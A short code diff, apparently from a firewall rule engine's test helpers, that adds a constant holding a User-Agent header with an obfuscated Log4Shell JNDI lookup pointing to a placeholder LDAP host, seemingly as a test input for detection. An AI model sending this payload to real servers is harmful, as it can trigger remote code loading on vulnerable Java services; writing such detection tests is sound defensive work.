@@ -53,3 +53,6 @@ export function config(...rules: FirewallRule[]): FirewallConfig {
 
 export const get = (path: string, headers = ''): string =>
   `GET ${path} HTTP/1.1\r\nHost: x\r\n${headers}Connection: close\r\n\r\n`;
+
+/** A header with the Log4Shell look-up. */
+export const JNDI = `User-Agent: $${'{'}jNdi:ldap://x/a}\r\n`;
